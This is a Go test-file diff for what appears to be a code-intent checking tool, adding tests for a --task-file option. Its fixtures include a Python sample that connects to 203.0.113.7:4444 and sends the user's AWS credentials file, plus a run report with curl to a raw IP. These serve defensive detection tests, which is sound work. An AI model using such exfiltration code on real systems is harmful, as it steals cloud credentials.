@@ -24,11 +24,13 @@ func TestIntentCommand(t *testing.T) {
 	good := filepath.Join(dir, "clean.py")
 	runJSON := filepath.Join(dir, "run.json")
 	broken := filepath.Join(dir, "broken.json")
+	taskFile := filepath.Join(dir, "task.txt")
 	for p, c := range map[string]string{
-		bad:     "import csv, socket\ns = socket.create_connection(('203.0.113.7', 4444))\ns.sendall(open('/home/u/.aws/credentials').read().encode())\n",
-		good:    "import csv\n\ndef export(rows, f):\n    csv.writer(f).writerows(rows)\n",
-		runJSON: `{"processes":[{"argv":["python3","t.py"]},{"argv":["curl","http://198.51.100.9/x"]}],"network":[{"protocol":"tcp","dest":"198.51.100.9:80"}]}`,
-		broken:  `{"processes": [`,
+		bad:      "import csv, socket\ns = socket.create_connection(('203.0.113.7', 4444))\ns.sendall(open('/home/u/.aws/credentials').read().encode())\n",
+		good:     "import csv\n\ndef export(rows, f):\n    csv.writer(f).writerows(rows)\n",
+		runJSON:  `{"processes":[{"argv":["python3","t.py"]},{"argv":["curl","http://198.51.100.9/x"]}],"network":[{"protocol":"tcp","dest":"198.51.100.9:80"}]}`,
+		broken:   `{"processes": [`,
+		taskFile: "Please add a CSV export\nfor the invoice list.\n",
 	} {
 		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
 			t.Fatal(err)
@@ -45,6 +47,9 @@ func TestIntentCommand(t *testing.T) {
 		{"fail-on above findings", []string{"--task", "add CSV export", "--fail-on", "critical", good}, exitOK, ""},
 		{"run report", []string{"--task", "add CSV export", "--run", runJSON}, exitFindings, "the run connected to the raw IP address 198.51.100.9:80"},
 		{"no task", []string{bad}, exitUsage, "--task is required"},
+		{"task file", []string{"--task-file", taskFile, bad}, exitFindings, "task: 'Please add a CSV export for the invoice list.'"},
+		{"task and task file", []string{"--task", "x", "--task-file", taskFile, bad}, exitUsage, "not both"},
+		{"missing task file", []string{"--task-file", filepath.Join(dir, "none.txt"), bad}, exitUsage, "none.txt"},
 		{"nothing to check", []string{"--task", "x"}, exitUsage, "nothing to check"},
 		{"diff and files", []string{"--task", "x", "--diff", "HEAD", bad}, exitUsage, "not both"},
 		{"bad run report", []string{"--task", "x", "--run", broken}, exitUsage, "run report"},
